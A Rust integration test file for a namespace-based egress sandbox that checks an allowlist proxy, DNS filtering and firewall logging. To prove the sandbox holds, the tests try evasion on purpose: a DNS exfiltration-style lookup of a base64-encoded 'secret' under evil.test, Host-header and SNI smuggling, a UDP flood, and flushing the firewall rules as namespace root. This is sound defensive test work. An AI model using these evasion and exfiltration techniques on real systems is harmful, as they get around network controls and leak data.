//! Egress end to end in real namespaces: a command runs in a fresh user+network namespace set up
//! by `setup_netns`, served by `Egress` from outside, against test servers on loopback (reached
//! only through `resolve` pins) and test hosts in network namespaces the test makes.

mod common;

use common::*;
use serde_json::json;

fn policy(allow: &[String], pins: &[&str]) -> serde_json::Value {
    let resolve: serde_json::Map<String, serde_json::Value> =
        pins.iter().map(|n| (n.to_string(), json!("127.0.0.1"))).collect();
    // Upstream on loopback where nothing listens: no test question ever leaves the machine.
    json!({ "mode": "allowlist", "allow": allow, "resolve": resolve, "upstream": ["127.0.0.1:9"] })
}

#[test]
fn allowed_name_works_via_proxy_variables_and_transparently() {
    require_netns!();
    let http = HttpServer::start("allowed", 0);
    let https = HttpsServer::start();
    let (h, s) = (http.port, https.port);
    let cert = https.cert.display();
    let r = run(
        policy(
            &[format!("allowed.test:{h}"), format!("allowed.test:{s}")],
            &["allowed.test"],
        ),
        &format!(
            "echo proxy=$HTTPS_PROXY; \
             curl -sS http://allowed.test:{h}/; \
             curl -sS --noproxy '*' http://allowed.test:{h}/; \
             curl -sS --cacert {cert} -o /dev/null -w 'https-proxy %{{http_code}}\\n' https://allowed.test:{s}/; \
             curl -sS --noproxy '*' --cacert {cert} -o /dev/null -w 'https-transparent %{{http_code}}\\n' https://allowed.test:{s}/"
        ),
    );
    assert_eq!(r.status, 0, "{r:?}");
    assert!(r.stdout.contains("proxy=http://127.0.0.1:3128"), "{r:?}");
    assert_eq!(
        r.stdout.matches("hello from allowed (Host: allowed.test").count(),
        2,
        "{r:?}"
    );
    assert!(r.stdout.contains("https-proxy 200"), "{r:?}");
    assert!(r.stdout.contains("https-transparent 200"), "{r:?}");
    for (via, proto, port) in [
        ("proxy-request", "http", h),
        ("transparent", "http", h),
        ("connect", "tls", s),
        ("transparent", "tls", s),
    ] {
        let ev = r.find(&[("via", via), ("protocol", proto), ("name", "allowed.test")]);
        assert_eq!(ev.len(), 1, "{via} {proto}: {r:?}");
        let e = ev[0];
        assert_eq!(e["verdict"], "allowed", "{r:?}");
        assert_eq!(e["port"], port, "{r:?}");
        assert_eq!(e["address"], "127.0.0.1", "{r:?}");
        assert_eq!(e["rule"], format!("allow allowed.test:{port}"), "{r:?}");
        assert!(e["bytes_down"].as_u64().unwrap() > 0, "{r:?}");
        assert!(e["bytes_up"].as_u64().unwrap() > 0, "{r:?}");
        assert!(e["error"].is_null(), "{r:?}");
    }
    // Each connection names the job process that made it; plain HTTP carries upstream's status.
    for e in r
        .find(&[("name", "allowed.test")])
        .iter()
        .filter(|e| e["protocol"] != "dns")
    {
        assert_eq!(e["comm"], "curl", "{r:?}");
        assert!(e["pid"].as_u64().is_some(), "{r:?}");
        assert!(e["exe"].as_str().unwrap().ends_with("/curl"), "{r:?}");
        let status = if e["protocol"] == "http" {
            json!(200)
        } else {
            json!(null)
        };
        assert_eq!(e["http_status"], status, "{r:?}");
    }
    // Transparent connections went to the synthetic address stockade's DNS gave out.
    let t = &r.find(&[("via", "transparent")])[0];
    assert!(t["client_target"].as_str().unwrap().starts_with("198.18."), "{r:?}");
    assert!(
        r.find(&[("protocol", "dns"), ("name", "allowed.test"), ("verdict", "allowed")])
            .len()
            >= 2,
        "{r:?}"
    );
    assert!(r.stderr.contains("egress (allowlist):"), "{r:?}");
}

#[test]
fn denied_name_is_refused_and_logged() {
    require_netns!();
    let allowed = HttpServer::start("allowed", 0);
    let denied = HttpServer::start("denied", 0);
    let r = run(
        policy(
            &[format!("allowed.test:{}", allowed.port)],
            &["allowed.test", "denied.test"],
        ),
        &format!(
            "curl -sS -o /dev/null -w 'proxy %{{http_code}}\\n' http://denied.test:{d}/; \
             curl -sS -w 'connect %{{http_code}}\\n' https://denied.test:{d}/; echo connect-rc=$?; \
             curl -sS --noproxy '*' http://denied.test:{d}/; echo transparent-rc=$?",
            d = denied.port
        ),
    );
    assert!(r.stdout.contains("proxy 403"), "{r:?}");
    assert!(r.stdout.contains("connect-rc=56"), "CONNECT refused: {r:?}");
    assert!(r.stdout.contains("transparent-rc=6"), "name not resolved: {r:?}");
    assert_eq!(
        denied.connections.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the denied server was never reached"
    );
    for via in ["proxy-request", "connect"] {
        let ev = r.find(&[("via", via), ("name", "denied.test")]);
        assert_eq!(ev.len(), 1, "{via}: {r:?}");
        assert_eq!(ev[0]["verdict"], "refused");
        assert_eq!(ev[0]["rule"], "name not in allowlist");
        assert!(ev[0]["address"].is_null(), "never resolved: {r:?}");
    }
    let dns = r.find(&[("protocol", "dns"), ("name", "denied.test")]);
    assert!(!dns.is_empty(), "{r:?}");
    assert!(dns.iter().all(|e| e["verdict"] == "refused"), "{r:?}");
    assert!(r.stderr.contains("refused:"), "{r:?}");
    assert!(r.stderr.contains("denied.test"), "{r:?}");
}

#[test]
fn names_pinned_to_one_address_are_decided_by_name() {
    require_netns!();
    let srv = HttpServer::start("the shared server", 0);
    let p = srv.port;
    let r = run(
        policy(&[format!("allowed.test:{p}")], &["allowed.test", "shared.test"]),
        &format!(
            "curl -sS http://allowed.test:{p}/; \
             curl -sS -o /dev/null -w 'shared-proxy %{{http_code}}\\n' http://shared.test:{p}/; \
             A=$(getent hosts allowed.test | cut -d' ' -f1); echo allowed-addr=$A; \
             curl -sS --noproxy '*' --resolve shared.test:{p}:$A http://shared.test:{p}/; echo sneak-rc=$?; \
             curl -sS --noproxy '*' --request-target http://shared.test/ http://allowed.test:{p}/; echo target-rc=$?; \
             $TRY probe tcp $A:{p} 'GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: shared.test\r\n\r\n'; \
             $TRY probe tcp 127.0.0.1:3128 'GET http://allowed.test:{p}/ HTTP/1.1\r\nHost: allowed.test\r\nHost: shared.test\r\n\r\n'"
        ),
    );
    assert!(
        r.stdout.contains("hello from the shared server (Host: allowed.test"),
        "{r:?}"
    );
    assert!(r.stdout.contains("shared-proxy 403"), "{r:?}");
    assert!(r.stdout.contains("allowed-addr=198.18."), "{r:?}");
    assert!(!r.stdout.contains("Host: shared.test"), "{r:?}");
    assert!(!r.stdout.contains("sneak-rc=0"), "{r:?}");
    let ev = r.find(&[("via", "proxy-request"), ("name", "shared.test")]);
    assert_eq!(ev[0]["verdict"], "refused", "{r:?}");
    // Connecting to allowed.test's address while naming shared.test (in Host, in an
    // absolute-form target, or in a second Host header) is refused.
    assert!(!r.stdout.contains("target-rc=0"), "{r:?}");
    assert!(r.stdout.contains("tcp: got \"\""), "{r:?}");
    assert!(r.stdout.contains("tcp: got \"HTTP/1.1 400 Bad Request"), "{r:?}");
    let ev = r.find(&[("via", "transparent"), ("verdict", "refused")]);
    let rules: Vec<&str> = ev.iter().map(|e| e["rule"].as_str().unwrap()).collect();
    assert_eq!(rules.len(), 3, "{r:?}");
    assert!(
        rules.contains(&"Host header \"shared.test\" differs from \"allowed.test\""),
        "{rules:?}"
    );
    assert!(
        rules.contains(&"request target host \"shared.test\" differs from \"allowed.test\""),
        "{rules:?}"
    );
    assert!(
        rules.contains(&"unreadable first bytes: malformed HTTP request head"),
        "{rules:?}"
    );
    assert!(
        ev.iter().all(|e| e["bytes_up"] == 0),
        "nothing reached the server: {r:?}"
    );
}

#[test]
fn sni_differing_from_connect_host_and_tls_without_sni_are_refused() {
    require_netns!();
    let https = HttpsServer::start();
    let s = https.port;
    let r = run(
        policy(
            &[format!("allowed.test:{s}"), format!("denied-but-listed.test:{s}")],
            &["allowed.test"],
        ),
        &format!(
            "echo Q | openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:{s} -servername denied.test >/dev/null 2>&1; \
             echo Q | openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:{s} -noservername >/dev/null 2>&1; \
             echo Q | openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:{s} -servername allowed.test 2>/dev/null | grep -c 'BEGIN CERTIFICATE'"
        ),
    );
    assert!(r.stdout.trim_end().ends_with('1'), "the matching SNI works: {r:?}");
    let refused = r.find(&[("via", "connect"), ("verdict", "refused")]);
    assert_eq!(refused.len(), 2, "{r:?}");
    let rules: Vec<&str> = refused.iter().map(|e| e["rule"].as_str().unwrap()).collect();
    assert!(
        rules.contains(&"SNI \"denied.test\" differs from \"allowed.test\""),
        "{rules:?}"
    );
    assert!(rules.contains(&"TLS without SNI"), "{rules:?}");
    assert!(refused.iter().all(|e| e["bytes_up"] == 0), "{r:?}");
    assert_eq!(
        r.find(&[("via", "connect"), ("verdict", "allowed"), ("protocol", "tls")])
            .len(),
        1,
        "{r:?}"
    );
}

#[test]
fn events_carry_upstream_http_status_and_the_process() {
    require_netns!();
    let http = HttpServer::start("statuses", 0);
    let https = HttpsServer::start();
    let (h, s) = (http.port, https.port);
    let cert = https.cert.display();
    let r = run(
        policy(
            &[format!("allowed.test:{h}"), format!("allowed.test:{s}")],
            &["allowed.test", "denied.test"],
        ),
        &format!(
            "curl -sS -o /dev/null -w 'proxy %{{http_code}}\\n' http://allowed.test:{h}/status/401; \
             curl -sS --noproxy '*' -o /dev/null -w 'transparent %{{http_code}}\\n' http://allowed.test:{h}/status/407; \
             curl -sS --cacert {cert} -o /dev/null -w 'tunnel %{{http_code}}\\n' https://allowed.test:{s}/; \
             curl -sS -o /dev/null -w 'denied %{{http_code}}\\n' http://denied.test:{h}/status/401; \
             getent hosts c2VjcmV0.evil.test; echo getent-rc=$?"
        ),
    );
    for line in [
        "proxy 401",
        "transparent 407",
        "tunnel 200",
        "denied 403",
        "getent-rc=2",
    ] {
        assert!(r.stdout.contains(line), "{line}: {r:?}");
    }
    let one = |want: &[(&str, &str)]| {
        let ev = r.find(want);
        assert_eq!(ev.len(), 1, "{want:?}: {r:?}");
        ev[0].clone()
    };
    assert_eq!(
        one(&[("via", "proxy-request"), ("name", "allowed.test")])["http_status"],
        401
    );
    assert_eq!(
        one(&[("via", "transparent"), ("name", "allowed.test")])["http_status"],
        407
    );
    // A CONNECT tunnel's bytes are not read: no status, even for HTTPS whose status was 200.
    assert!(one(&[("via", "connect")])["http_status"].is_null(), "{r:?}");
    // Stockade's own refusal is not upstream's answer.
    let denied = one(&[("via", "proxy-request"), ("name", "denied.test")]);
    assert!(denied["http_status"].is_null(), "{r:?}");
    assert_eq!(denied["comm"], "curl", "{r:?}");
    // A refused question's answer waits for the lookup: the asker is always known.
    let asked = r.find(&[("protocol", "dns"), ("name", "c2vjcmv0.evil.test")]);
    assert!(!asked.is_empty(), "{r:?}");
    for e in asked {
        assert_eq!(e["comm"], "getent", "{r:?}");
        assert!(e["pid"].as_u64().unwrap() > 1, "{r:?}");
    }
}

#[test]
fn dns_for_a_denied_name_gets_no_answer_and_is_logged() {
    require_netns!();
    let r = run(
        policy(&["allowed.test".into()], &["allowed.test"]),
        "getent hosts c2VjcmV0.evil.test; echo getent-rc=$?; \
         $TRY probe dns-udp 127.0.0.1:53 c2VjcmV0.evil.test; \
         $TRY probe dns-tcp 127.0.0.1:53 c2VjcmV0.evil.test; \
         $TRY probe dns-udp 127.0.0.1:53 allowed.test",
    );
    assert!(r.stdout.contains("getent-rc=2"), "{r:?}");
    assert_eq!(r.stdout.matches("dns: NXDomain answers=[]").count(), 2, "{r:?}");
    assert!(r.stdout.contains("dns: NoError answers=[198.18."), "{r:?}");
    let ev = r.find(&[("protocol", "dns"), ("name", "c2vjcmv0.evil.test")]);
    assert!(ev.len() >= 3, "{r:?}");
    assert!(ev.iter().all(|e| e["verdict"] == "refused"), "{r:?}");
    assert!(
        !r.find(&[("via", "dns-tcp"), ("verdict", "refused")]).is_empty(),
        "{r:?}"
    );
}

#[test]
fn audit_mode_allows_and_flags() {
    require_netns!();
    let srv = HttpServer::start("audited", 0);
    let p = srv.port;
    let mut pol = policy(&[format!("allowed.test:{p}")], &["allowed.test", "denied.test"]);
    pol["mode"] = json!("audit");
    let r = run(
        pol,
        &format!(
            "curl -sS http://denied.test:{p}/; curl -sS --noproxy '*' http://denied.test:{p}/; \
             curl -sS http://allowed.test:{p}/"
        ),
    );
    assert_eq!(
        r.stdout.matches("hello from audited (Host: denied.test").count(),
        2,
        "{r:?}"
    );
    assert!(r.stdout.contains("Host: allowed.test"), "{r:?}");
    let flagged = r.find(&[("name", "denied.test"), ("verdict", "flagged")]);
    assert!(flagged.len() >= 3, "proxy, transparent and DNS: {r:?}");
    assert!(flagged.iter().all(|e| e["rule"] == "name not in allowlist"), "{r:?}");
    assert!(r.find(&[("verdict", "refused")]).is_empty(), "{r:?}");
    let ok = r.find(&[("via", "proxy-request"), ("name", "allowed.test")]);
    assert_eq!(ok[0]["verdict"], "allowed", "{r:?}");
    assert!(r.stderr.contains("egress (audit):"), "{r:?}");
    assert!(r.stderr.contains("flagged"), "{r:?}");
}

#[test]
fn one_gib_download_is_byte_exact() {
    require_netns!();
    const N: u64 = 1 << 30;
    let srv = HttpServer::start("bulk", 0);
    let p = srv.port;
    let direct = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "curl -sS --noproxy '*' http://127.0.0.1:{p}/bytes/{N} | sha256sum"
        ))
        .output()
        .unwrap();
    let want = String::from_utf8_lossy(&direct.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_string();
    assert_eq!(want.len(), 64);
    let r = run(
        policy(&[format!("allowed.test:{p}")], &["allowed.test"]),
        &format!(
            "curl -sS http://allowed.test:{p}/bytes/{N} | sha256sum; \
             curl -sS --noproxy '*' http://allowed.test:{p}/bytes/{N} | sha256sum"
        ),
    );
    assert_eq!(r.stdout.matches(&want).count(), 2, "want {want}: {r:?}");
    for via in ["proxy-request", "transparent"] {
        let e = &r.find(&[("via", via)])[0];
        assert!(e["bytes_down"].as_u64().unwrap() > N, "{r:?}");
    }
}

#[test]
fn two_hundred_parallel_connections_are_served() {
    require_netns!();
    const PAR: usize = 200;
    let srv = HttpServer::start("hold", PAR);
    let p = srv.port;
    let r = run(
        policy(&[format!("allowed.test:{p}")], &["allowed.test"]),
        &format!(
            "curl -sS -Z --parallel-immediate --parallel-max {PAR} $(for i in $(seq {PAR}); do echo http://allowed.test:{p}/hold; done)"
        ),
    );
    assert_eq!(
        r.stdout.matches(&format!("held peak={PAR}\n")).count(),
        PAR,
        "every request saw all {PAR} open at once: {r:?}"
    );
    assert_eq!(r.find(&[("via", "proxy-request"), ("verdict", "allowed")]).len(), PAR);
}

#[test]
fn bad_policy_is_an_error_naming_the_entry() {
    let out = std::process::Command::new(TRY)
        .args(["--policy-json", r#"{"mode":"allowlist","allow":["*.*"]}"#, "--", "true"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("egress.allow: entry \"*.*\""), "{err}");
}

// The tests below need a test host: a network namespace joined by veth, which needs root.

macro_rules! require_root {
    () => {
        if !is_root() {
            eprintln!("SKIPPED: needs root to create a test host network namespace");
            return;
        }
    };
}

#[test]
fn ip_literals_are_refused_unless_in_allow_cidrs() {
    require_netns!();
    require_root!();
    let mut th = TestHost::new();
    let srv = th.serve("serve-tcp", 8080);
    let a = th.addr.clone();
    let script = format!(
        "$TRY probe tcp {a}:8080 hello; \
         curl -sS --noproxy '*' -o /dev/null http://{a}:8080/; echo http-transparent-rc=$?; \
         curl -sS -o /dev/null -w 'proxy %{{http_code}}\\n' http://{a}:8080/"
    );
    let r = run(policy(&["allowed.test".into()], &[]), &script);
    assert!(r.stdout.contains("tcp: got \"\""), "{r:?}");
    assert!(!r.stdout.contains("test-host"), "{r:?}");
    assert!(r.stdout.contains("proxy 403"), "{r:?}");
    let refused = r.find(&[("verdict", "refused")]);
    assert_eq!(refused.len(), 3, "{r:?}");
    assert!(
        refused
            .iter()
            .all(|e| e["rule"].as_str().unwrap().contains(&format!("IP literal {a}"))),
        "{r:?}"
    );
    assert!(
        !th.stop_server(srv).contains("accepted"),
        "the test host saw no connection"
    );

    // Listed in allow_cidrs, the same address is reached (through the proxy).
    let srv = th.serve("serve-tcp", 8081);
    let mut pol = policy(&[], &[]);
    pol["allow_cidrs"] = json!([format!("{a}/32")]);
    let r = run(pol, &format!("$TRY probe tcp {a}:8081"));
    assert!(r.stdout.contains("tcp: got \"test-host\\n\""), "{r:?}");
    let e = &r.find(&[("via", "transparent")])[0];
    assert_eq!(e["verdict"], "allowed", "{r:?}");
    assert_eq!(e["rule"], format!("allow_cidrs {a}/32"), "{r:?}");
    assert!(
        th.stop_server(srv)
            .contains(&format!("accepted from Some({}:", th.host_side))
    );
}

#[test]
fn udp_and_dns_to_a_test_host_never_reach_it() {
    require_netns!();
    require_root!();
    let mut th = TestHost::new();
    let udp = th.serve("serve-udp", 9999);
    let dns = th.serve("serve-tcp", 53);
    let dnsu = th.serve("serve-udp", 53);
    let a = th.addr.clone();
    let r = run(
        policy(&["allowed.test".into()], &["allowed.test"]),
        &format!(
            "$TRY probe udp {a}:9999; \
             $TRY probe dns-tcp {a}:53 denied.test; \
             $TRY probe dns-udp {a}:53 denied.test; \
             $TRY probe dns-tcp {a}:53 allowed.test"
        ),
    );
    assert!(r.stdout.contains("udp: send failed"), "{r:?}");
    // Stockade's resolver answered instead of the test host's.
    assert_eq!(r.stdout.matches("dns: NXDomain").count(), 2, "{r:?}");
    assert!(r.stdout.contains("dns: NoError answers=[198.18."), "{r:?}");
    assert_eq!(
        r.find(&[("via", "dns-tcp"), ("name", "denied.test"), ("verdict", "refused")])
            .len(),
        1,
        "{r:?}"
    );
    assert!(!th.stop_server(udp).contains("datagram"));
    assert!(!th.stop_server(dns).contains("accepted"));
    assert!(!th.stop_server(dnsu).contains("datagram"));
}

/// Tries UDP, ICMP echo, and IPv6 UDP and TCP (HTTP naming an allowed and a denied host) to the
/// test host from one Python process, then asks two refused DNS questions before exiting: a
/// refused answer waits for its own process lookup, which queues behind those of the packets
/// sent before, so the process still holds the packets' sockets when they are looked up.
const PACKET_PROBE: &str = r#"
import os, socket, sys
a, a6, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
print("pid", os.getpid())
def attempt(what, f):
    try:
        f()
        print(what, "sent")
    except OSError as e:
        print(what, "failed:", e.strerror)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("udp", lambda: u.sendto(b"x", (a, 9999)))
p = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
attempt("icmp", lambda: p.sendto(b"\x08\x00\x00\x00\x12\x34\x00\x01", (a, 0)))
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
attempt("udp6", lambda: u6.sendto(b"x", (a6, 9999)))
for host in ["allowed.test", "denied.test"]:
    t6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    t6.settimeout(10)
    t6.connect((a6, port))
    t6.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
    got = b""
    while True:
        b = t6.recv(4096)
        if not b:
            break
        got += b
    print("tcp6", host, got.split(b"\r\n\r\n")[-1].decode() or "closed")
for _ in range(2):
    try:
        socket.getaddrinfo("denied.test", 80, socket.AF_INET)
    except OSError:
        pass
"#;

#[test]
fn udp_icmp_and_ipv6_follow_the_policy_and_are_logged_with_their_process() {
    require_netns!();
    require_root!();
    let mut th = TestHost::new();
    let http = HttpServer::start("allowed", 0);
    let p = http.port;
    let udp = th.serve("serve-udp", 9999);
    let tcp6 = th.serve_at("serve-tcp", &format!("[{}]:{p}", th.addr6));
    let udp6 = th.serve_at("serve-udp", &format!("[{}]:9999", th.addr6));
    let (a, a6) = (th.addr.clone(), th.addr6.clone());
    let dir = TempDir::new("probe");
    let probe = dir.0.join("probe.py");
    std::fs::write(&probe, PACKET_PROBE).unwrap();
    let r = run(
        policy(&[format!("allowed.test:{p}")], &["allowed.test"]),
        &format!("python3 {} {a} {a6} {p}", path_str(&probe)),
    );
    for line in [
        "udp failed: Operation not permitted",
        "icmp failed: Operation not permitted",
        "udp6 failed: Operation not permitted",
        // IPv6 TCP goes to the proxy like IPv4: decided by the name in its first bytes.
        "tcp6 allowed.test hello from allowed (Host: allowed.test",
        "tcp6 denied.test closed",
    ] {
        assert!(r.stdout.contains(line), "{line}: {r:?}");
    }
    let pid: u64 = r
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("pid "))
        .and_then(|p| p.parse().ok())
        .unwrap();
    let firewall = r.find(&[("via", "firewall")]);
    let v6 = format!("[{a6}]:{p}");
    for (via, protocol, target, verdict, rule) in [
        (
            "firewall",
            "udp",
            format!("{a}:9999"),
            "refused",
            "UDP other than DNS is refused",
        ),
        ("firewall", "icmp", format!("{a}:0"), "refused", "ICMP is refused"),
        (
            "firewall",
            "udp",
            format!("[{a6}]:9999"),
            "refused",
            "IPv6 UDP is refused",
        ),
        (
            "transparent",
            "http",
            v6.clone(),
            "allowed",
            &format!("allow allowed.test:{p}"),
        ),
        ("transparent", "http", v6.clone(), "refused", "name not in allowlist"),
    ] {
        let ev = r.find(&[
            ("via", via),
            ("protocol", protocol),
            ("client_target", &target),
            ("verdict", verdict),
        ]);
        assert_eq!(ev.len(), 1, "{protocol} {target} {verdict}: {r:?}");
        let e = ev[0];
        assert_eq!(e["rule"], rule, "{r:?}");
        assert_eq!(e["pid"], pid, "{protocol} {target}: {r:?}");
        assert!(e["comm"].as_str().unwrap().starts_with("python"), "{r:?}");
    }
    assert_eq!(firewall.len(), 3, "{r:?}");
    // The ping socket's identifier is its local "port", as the job-side source.
    let icmp = r.find(&[("via", "firewall"), ("protocol", "icmp")]);
    assert!(icmp[0]["source"].as_str().unwrap().starts_with("127.0.0.1:"), "{r:?}");
    assert!(r.stderr.contains(&format!("udp {a}:9999")), "summary: {r:?}");
    assert!(r.stderr.contains(&format!("icmp {a}")), "summary: {r:?}");
    assert!(!th.stop_server(udp).contains("datagram"));
    assert!(!th.stop_server(tcp6).contains("accepted"));
    assert!(!th.stop_server(udp6).contains("datagram"));
}

#[test]
fn a_packet_flood_is_counted_not_kept() {
    require_netns!();
    const SENT: u64 = 3000;
    let r = run(
        policy(&["allowed.test".into()], &[]),
        &format!(
            "python3 -c 'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range({SENT}):\n    try: s.sendto(b\"x\", (\"10.213.0.9\", 9999))\n    except OSError: pass\nprint(\"flooded\")'"
        ),
    );
    assert!(r.stdout.contains("flooded"), "{r:?}");
    let kept = r.find(&[("via", "firewall")]).len() as u64;
    let dropped = r.log["dropped_packets"].as_u64().unwrap();
    // Memory is bounded by the cap; what is past it (or lost by an overflowing log socket,
    // from the gaps in its sequence numbers) is counted.
    assert!(kept <= stockade_egress::MAX_PACKET_EVENTS, "{kept}");
    assert!(kept > 0, "{r:?}");
    assert!(kept + dropped <= SENT, "{kept} + {dropped}");
    if kept == stockade_egress::MAX_PACKET_EVENTS {
        assert!(dropped > 0, "past the cap is counted");
    }
    assert!(
        r.stderr.contains("refused packets counted, not kept") == (dropped > 0),
        "{r:?}"
    );
}

#[test]
fn root_in_the_job_namespace_cannot_get_around_it() {
    require_netns!();
    require_root!();
    let mut th = TestHost::new();
    let srv = th.serve("serve-tcp", 8080);
    let a = th.addr.clone();
    // The command runs as root of its user namespace, with every capability there: it drops
    // stockade's rules and routes, and makes a fresh network namespace. Nothing gets out.
    let r = run(
        policy(&["allowed.test".into()], &[]),
        &format!(
            "nft flush ruleset && echo flushed; ip route flush table main; ip route add default dev lo; \
             $TRY probe tcp {a}:8080; $TRY probe udp {a}:9999; \
             unshare -n $TRY probe tcp {a}:8080"
        ),
    );
    assert!(r.stdout.contains("flushed"), "{r:?}");
    assert_eq!(r.stdout.matches("tcp: connect failed").count(), 2, "{r:?}");
    assert!(!r.stdout.contains("test-host"), "{r:?}");
    assert!(!th.stop_server(srv).contains("accepted"));
}

/// A resolver on loopback for the `upstream` setting: `*.upstream.test` names resolve to
/// 127.0.0.1, everything else is NXDOMAIN. Counts the questions it gets.
fn start_upstream() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use hickory_proto::op::{Message, MessageType, ResponseCode};
    use hickory_proto::rr::rdata::A;
    use hickory_proto::rr::{RData, Record, RecordType};
    let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let addr = sock.local_addr().unwrap().to_string();
    let asked = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = asked.clone();
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok((n, from)) = sock.recv_from(&mut buf) {
            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let Ok(q) = Message::from_vec(&buf[..n]) else {
                continue;
            };
            let mut r = Message::new();
            r.set_id(q.id())
                .set_message_type(MessageType::Response)
                .set_recursion_available(true)
                .add_queries(q.queries().to_vec());
            let question = &q.queries()[0];
            let name = question.name().to_ascii();
            if name.ends_with(".upstream.test.") {
                if question.query_type() == RecordType::A {
                    r.add_answer(Record::from_rdata(
                        question.name().clone(),
                        30,
                        RData::A(A::new(127, 0, 0, 1)),
                    ));
                }
            } else {
                r.set_response_code(ResponseCode::NXDomain);
            }
            let _ = sock.send_to(&r.to_vec().unwrap(), from);
        }
    });
    (addr, asked)
}

#[test]
fn allowed_names_are_resolved_upstream_and_inward_answers_are_refused() {
    require_netns!();
    let srv = HttpServer::start("upstream-named", 0);
    let p = srv.port;
    let (upstream, asked) = start_upstream();
    let pol = json!({
        "mode": "allowlist",
        "allow": [format!("*.upstream.test:{p}"), format!("gone.test:{p}")],
        "upstream": [upstream],
    });
    let script = format!(
        "getent hosts www.upstream.test; echo getent-rc=$?; getent hosts gone.test; echo gone-rc=$?; \
         curl -sS -o /dev/null -w 'inward %{{http_code}}\\n' http://www.upstream.test:{p}/; \
         curl -sS -o /dev/null -w 'gone %{{http_code}}\\n' http://gone.test:{p}/"
    );
    let r = run(pol.clone(), &script);
    assert!(
        r.stdout.contains("198.18."),
        "an allowed name that exists upstream: {r:?}"
    );
    assert!(
        r.stdout.contains("gone-rc=2"),
        "NXDOMAIN upstream stays NXDOMAIN: {r:?}"
    );
    // www.upstream.test exists, but points at loopback: refused, never connected.
    assert!(r.stdout.contains("inward 403"), "{r:?}");
    assert!(r.stdout.contains("gone 502"), "{r:?}");
    assert!(asked.load(std::sync::atomic::Ordering::SeqCst) >= 2);
    let ev = r.find(&[("via", "proxy-request"), ("name", "www.upstream.test")]);
    assert_eq!(ev[0]["verdict"], "refused", "{r:?}");
    assert_eq!(
        ev[0]["rule"], "www.upstream.test resolved to 127.0.0.1: loopback address",
        "{r:?}"
    );
    assert_eq!(srv.connections.load(std::sync::atomic::Ordering::SeqCst), 0);
    let gone = r.find(&[("via", "proxy-request"), ("name", "gone.test")]);
    assert_eq!(gone[0]["verdict"], "allowed", "{r:?}");
    assert_eq!(gone[0]["error"], "gone.test: no such name", "{r:?}");

    // Inside allow_cidrs, the same inward answer is accepted.
    let mut pol = pol;
    pol["allow_cidrs"] = json!(["127.0.0.1/32"]);
    let r = run(pol, &format!("curl -sS http://www.upstream.test:{p}/"));
    assert!(
        r.stdout.contains("hello from upstream-named (Host: www.upstream.test"),
        "{r:?}"
    );
}
